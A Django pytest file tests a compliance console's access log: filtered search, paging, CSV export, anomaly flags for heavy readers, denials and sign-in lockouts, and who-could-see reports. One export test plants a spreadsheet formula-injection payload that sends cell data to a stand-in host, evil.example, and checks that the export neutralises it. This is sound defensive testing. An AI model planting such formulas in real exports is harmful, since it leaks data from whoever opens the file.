"""The access-log half of the compliance console: search, export, anomalies, who could / did see."""

import csv
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from accounts import services as account_services
from accounts.tests.factories import UserFactory
from compliance import access_log, services
from compliance.console.log.selectors import many_accounts_in_a_day, many_denials_in_a_day
from compliance.models import AccessLogEntry, WallCrossing
from kam.roles import Role

pytestmark = pytest.mark.django_db


def entry(user, account_id=None, **fields) -> dict:
    """An entry as the gateway records it (access_log._entry), with test defaults."""
    values = {
        "object_type": "account",
        "object_id": account_id,
        "action": "view",
        "outcome": AccessLogEntry.Outcome.ALLOWED,
        "reason": "member",
        "path": f"/accounts/{account_id}/",
        "ip": "10.0.0.7",
    }
    values.update(fields)
    return access_log._entry(user=user, account_id=account_id, **values)


@pytest.fixture
def log(personas):
    """A few entries: alice reads her account, bob is refused it, bob reads his own."""
    alice_id, bob_id = personas.alice_account.pk, personas.bob_account.pk
    access_log.write(
        [
            entry(personas.alice, alice_id, reason="alice-read-marker"),
            entry(
                personas.bob,
                alice_id,
                outcome=AccessLogEntry.Outcome.DENIED,
                reason="not on the account team and no active wall crossing",
            ),
            entry(personas.bob, bob_id, reason="bob-read-marker", object_type="stakeholder", object_id=9),
        ],
        {},
    )
    return personas


def get(client, persona, name, **params):
    client.force_login(persona)
    return client.get(reverse(name), params)


def own_entries(user, action):
    return AccessLogEntry.objects.filter(user_id=user.pk, object_type="access_log", action=action)


# Search. --------------------------------------------------------------------------------------------


def test_dave_sees_the_newest_entries_with_sanitized_account_names(client, log):
    response = get(client, log.dave, "compliance:log")

    assert response.status_code == 200
    entries = list(response.context["page"].object_list)
    assert entries == sorted(entries, key=lambda e: -e.pk)
    body = response.content.decode()
    assert "alice-read-marker" in body and "bob-read-marker" in body
    assert "Northwind Retail" in body and "Contoso Stores" in body
    assert "10.0.0.7" in body


def test_dave_filters_by_user(client, log):
    response = get(client, log.dave, "compliance:log", user="ALI")

    usernames = {e.username for e in response.context["page"].object_list}
    assert usernames == {"alice"}
    assert "bob-read-marker" not in response.content.decode()


@pytest.mark.parametrize("account", ["northwind", "id"])
def test_dave_filters_by_account_name_or_id(client, log, account):
    value = str(log.alice_account.pk) if account == "id" else "northwind"

    response = get(client, log.dave, "compliance:log", account=value)

    entries = response.context["page"].object_list
    assert entries and {e.account_id for e in entries} == {log.alice_account.pk}
    assert "bob-read-marker" not in response.content.decode()


def test_dave_filters_by_outcome_object_type_and_dates(client, log):
    today = timezone.localdate().isoformat()
    response = get(client, log.dave, "compliance:log", outcome="denied", date_from=today, date_to=today)
    assert [(e.username, e.outcome) for e in response.context["page"].object_list] == [("bob", "denied")]

    response = get(client, log.dave, "compliance:log", object_type="stakeholder")
    assert [e.reason for e in response.context["page"].object_list] == ["bob-read-marker"]

    response = get(client, log.dave, "compliance:log", date_to="2001-01-01")
    assert not response.context["page"].object_list
    assert "No entries match this filter." in response.content.decode()


def test_the_log_pages_fifty_entries(client, personas):
    access_log.write(
        [entry(personas.alice, personas.alice_account.pk, reason=f"r{i}") for i in range(60)], {}
    )

    response = get(client, personas.dave, "compliance:log", user="alice", object_type="account", page=2)

    page = response.context["page"]
    assert page.paginator.per_page == 50 and page.number == 2
    assert (
        page.paginator.count
        == AccessLogEntry.objects.filter(user_id=personas.alice.pk, object_type="account").count()
    )


@pytest.mark.parametrize(
    "params, message",
    [
        ({"date_from": "yesterday"}, "Enter a valid date."),
        ({"date_from": "2025-02-30"}, "Enter a valid date."),
        ({"date_from": "2025-03-02", "date_to": "2025-03-01"}, "The end date is before the start date."),
        ({"date_to": "0001-01-01"}, "Enter a date between"),
        ({"account": "-5"}, "An account id is a positive whole number."),
        ({"account": "99999999999999999999"}, "That account id is out of range."),
        ({"outcome": "maybe"}, "Select a valid choice."),
    ],
)
def test_bad_filters_get_a_clear_message(client, log, params, message):
    response = get(client, log.dave, "compliance:log", **params)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert response.context["page"] is None
    assert not own_entries(log.dave, "search").exists()


@pytest.mark.parametrize("persona", ["alice", "bob", "carol", "admin"])
@pytest.mark.parametrize(
    "name", ["compliance:log", "compliance:log_export", "compliance:log_anomalies", "compliance:who_saw"]
)
def test_only_compliance_officers_read_the_log(client, log, persona, name):
    response = get(client, getattr(log, persona), name, account=str(log.alice_account.pk))

    assert response.status_code == 403
    assert "alice-read-marker" not in response.content.decode()


# Reading the log is logged. --------------------------------------------------------------------------


def test_a_search_is_logged_with_its_filter(client, log):
    get(
        client, log.dave, "compliance:log", user="alice", account=str(log.alice_account.pk), outcome="allowed"
    )

    logged = own_entries(log.dave, "search").get()
    assert logged.outcome == "allowed"
    assert logged.account_id == log.alice_account.pk
    assert f"user=alice; account={log.alice_account.pk}; outcome=allowed" in logged.reason
    assert logged.path.startswith(reverse("compliance:log"))


def test_an_unfiltered_search_is_logged_without_an_account(client, log):
    get(client, log.dave, "compliance:log")

    logged = own_entries(log.dave, "search").get()
    assert logged.account_id is None and logged.reason.startswith("no filter")


# Export. ---------------------------------------------------------------------------------------------


def _csv(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


def test_the_export_holds_the_filtered_rows_and_neutralises_formulas(client, log):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"click")'
    access_log.write([entry(log.alice, log.alice_account.pk, path=formula, reason="@SUM(1+1)")], {})

    response = get(client, log.dave, "compliance:log_export", user="alice", account="Northwind")

    header, *rows = _csv(response)
    assert header[:6] == ["id", "time (UTC)", "user id", "username", "account id", "account"]
    assert {row[3] for row in rows} == {"alice"}
    assert {row[5] for row in rows} == {"Northwind Retail"}
    assert "bob-read-marker" not in response.content.decode()
    paths = [row[header.index("path")] for row in rows]
    assert "'" + formula in paths and formula not in paths
    assert "'@SUM(1+1)" in [row[header.index("reason")] for row in rows]
    ids = [int(row[0]) for row in rows]
    assert ids == sorted(ids, reverse=True)
    assert (
        len(rows)
        == AccessLogEntry.objects.filter(user_id=log.alice.pk, account_id=log.alice_account.pk).count()
    )


def test_an_export_is_logged(client, log):
    get(client, log.dave, "compliance:log_export", outcome="denied")

    logged = own_entries(log.dave, "export").get()
    assert logged.reason == "outcome=denied"


def test_an_export_with_a_bad_filter_goes_back_to_the_search_with_a_message(client, log):
    response = get(client, log.dave, "compliance:log_export", date_from="2025-03-02", date_to="2025-03-01")

    assert response.status_code == 302 and response.url.startswith(reverse("compliance:log"))
    follow = client.get(response.url)
    assert "Fix the filter before exporting" in follow.content.decode()
    assert not own_entries(log.dave, "export").exists()


# Anomalies. -------------------------------------------------------------------------------------------


def test_a_user_reading_twelve_accounts_in_a_day_is_flagged(client, personas, settings):
    settings.ACCESS_LOG_ANOMALY_ACCOUNTS_PER_DAY = 10
    reader = UserFactory(username="hoarder", role=Role.ACCOUNT_MANAGER)
    modest = UserFactory(username="modest", role=Role.ACCOUNT_MANAGER)
    access_log.write(
        [entry(reader, 1000 + i) for i in range(12)]
        + [entry(reader, 1000)]  # the same account again does not count twice
        + [entry(modest, 2000 + i) for i in range(10)],
        {},
    )

    response = get(client, personas.dave, "compliance:log_anomalies")

    assert response.status_code == 200
    flagged = {row["username"]: row for row in response.context["many_accounts"]}
    assert set(flagged) == {"hoarder"}
    assert flagged["hoarder"]["accounts"] == 12 and flagged["hoarder"]["entries"] == 13
    assert "hoarder" in response.content.decode()
    assert own_entries(personas.dave, "anomalies").get().reason.startswith("from=")


def test_several_denials_in_a_day_are_flagged_and_listed(client, log):
    snoop = UserFactory(username="snoop", role=Role.ACCOUNT_MANAGER)
    denied = AccessLogEntry.Outcome.DENIED
    access_log.write(
        [entry(snoop, log.alice_account.pk, outcome=denied, reason=f"refused {i}") for i in range(3)], {}
    )

    response = get(client, log.dave, "compliance:log_anomalies")

    flagged = {row["username"]: row["denials"] for row in response.context["many_denials"]}
    assert flagged == {"snoop": 3}  # bob's single denial is no pattern
    recent = response.context["denials"]
    assert {e.username for e in recent} == {"snoop", "bob"}
    assert all(e.outcome == "denied" for e in recent)
    assert "Northwind Retail" in response.content.decode()


def test_anomalies_are_one_query_each_whatever_the_log_holds(personas, django_assert_num_queries):
    from compliance.console.log.forms import AnomalyForm

    users = [UserFactory(username=f"u{i}") for i in range(5)]
    access_log.write([entry(user, 3000 + i) for user in users for i in range(15)], {})
    form = AnomalyForm({})
    assert form.is_valid()
    start, end = form.window()

    with django_assert_num_queries(2):
        assert len(many_accounts_in_a_day(start=start, end=end)) == 5
        many_denials_in_a_day(start=start, end=end)


def test_anomaly_dates_are_checked(client, personas):
    response = get(
        client, personas.dave, "compliance:log_anomalies", date_from="2020-01-01", date_to="2024-01-01"
    )

    assert response.status_code == 200
    assert "days at most" in response.content.decode()
    assert not own_entries(personas.dave, "anomalies").exists()


# Who could see / who did see. -------------------------------------------------------------------------


def test_who_saw_lists_the_team_the_crossings_and_the_readers(client, personas):
    account = personas.alice_account
    erin = UserFactory(username="erin", role=Role.ACCOUNT_MANAGER)
    frank = UserFactory(username="frank", role=Role.ACCOUNT_MANAGER)
    account_services.team_member_add(account=account, user=frank, role="member")  # on the team, never read it
    crossing = services.crossing_request(user=erin, account=account, reason="Audit support", days=5)
    services.crossing_decide(crossing=crossing, actor=personas.dave, approve=True)
    rejected = services.crossing_request(user=personas.bob, account=account, reason="Curious", days=5)
    services.crossing_decide(crossing=rejected, actor=personas.dave, approve=False, note="No.")
    access_log.write([entry(personas.alice, account.pk, reason=f"read {i}") for i in range(3)], {})
    access_log.write([entry(personas.bob, account.pk, outcome=AccessLogEntry.Outcome.DENIED)], {})

    response = get(client, personas.dave, "compliance:who_saw", account="northwind")

    assert response.status_code == 200
    result = response.context["result"]
    assert {m.user.username for m in result.team} == {"alice", "carol", "frank"}
    assert [(c.user.username, c.status) for c in result.crossings] == [("erin", WallCrossing.Status.APPROVED)]
    readers = {r["username"]: r for r in result.readers}
    assert "alice" in readers and readers["alice"]["reads"] >= 3
    assert readers["alice"]["first_at"] <= readers["alice"]["last_at"]
    assert "frank" not in readers and "bob" not in readers
    body = response.content.decode()
    assert "no leave date" in body and "erin" in body
    logged = own_entries(personas.dave, "who_saw").get()
    assert logged.account_id == account.pk and logged.reason.startswith(f"account={account.pk}; from=")


def test_who_saw_a_window_before_anything_happened_is_empty(client, personas):
    response = get(
        client,
        personas.dave,
        "compliance:who_saw",
        account=str(personas.alice_account.pk),
        date_from="2001-01-01",
        date_to="2001-12-31",
    )

    result = response.context["result"]
    assert not result.team and not result.crossings and not result.readers


@pytest.mark.parametrize(
    "account, message",
    [
        ("nothing-like-it", "No account matches."),
        ("R", "Several accounts match"),
        ("-3", "An account id is a positive whole number."),
        ("123456789", "No account matches."),
    ],
)
def test_who_saw_explains_a_bad_account(client, personas, account, message):
    response = get(client, personas.dave, "compliance:who_saw", account=account)

    assert response.status_code == 200
    assert message in response.content.decode()
    assert not own_entries(personas.dave, "who_saw").exists()


def test_who_saw_without_an_account_shows_the_form(client, personas):
    response = get(client, personas.dave, "compliance:who_saw")

    assert response.status_code == 200
    assert "Choose an account" in response.content.decode()
    assert not own_entries(personas.dave, "who_saw").exists()


def test_an_export_too_large_asks_for_a_narrower_filter(client, log, monkeypatch):
    from compliance.console.log import views as views_log

    monkeypatch.setattr(views_log, "EXPORT_LIMIT", 2)

    response = get(client, log.dave, "compliance:log_export")

    assert response.status_code == 302
    assert "narrow the filter" in client.get(response.url).content.decode()
    assert not own_entries(log.dave, "export").exists()
    assert (
        get(client, log.dave, "compliance:log_export", user="alice", object_type="account").status_code == 200
    )


# Sign-in failures and lockouts (compliance/signin_log.py). ---------------------------------------------


def test_anomalies_show_sign_in_failures_and_lockouts(client, personas):
    for attempt in range(5):  # carol's username, from five addresses: locked
        client.post(reverse("login"), {"username": "carol", "password": "x"}, REMOTE_ADDR=f"10.7.0.{attempt}")
    for attempt in range(3):  # one address trying three usernames
        client.post(reverse("login"), {"username": f"who{attempt}", "password": "x"}, REMOTE_ADDR="10.7.9.9")

    response = get(client, personas.dave, "compliance:log_anomalies")

    signin = response.context["signin"]
    by_username = {row["object_id"]: row for row in signin.by_username}
    assert by_username["carol"]["failures"] == 5 and by_username["carol"]["lockouts"] == 1
    assert by_username["carol"]["addresses"] == 5
    by_address = {row["ip"]: row for row in signin.by_address}
    assert by_address["10.7.9.9"]["failures"] == 3 and by_address["10.7.9.9"]["usernames"] == 3
    assert [(entry.object_id, entry.ip) for entry in signin.lockouts] == [("carol", "10.7.0.4")]
    page = response.content.decode()
    assert 'data-testid="signin-lockouts"' in page and "10.7.9.9" in page
    # The wall's own denial tables are not flooded by sign-in failures.
    assert response.context["many_denials"] == [] and response.context["denials"] == []
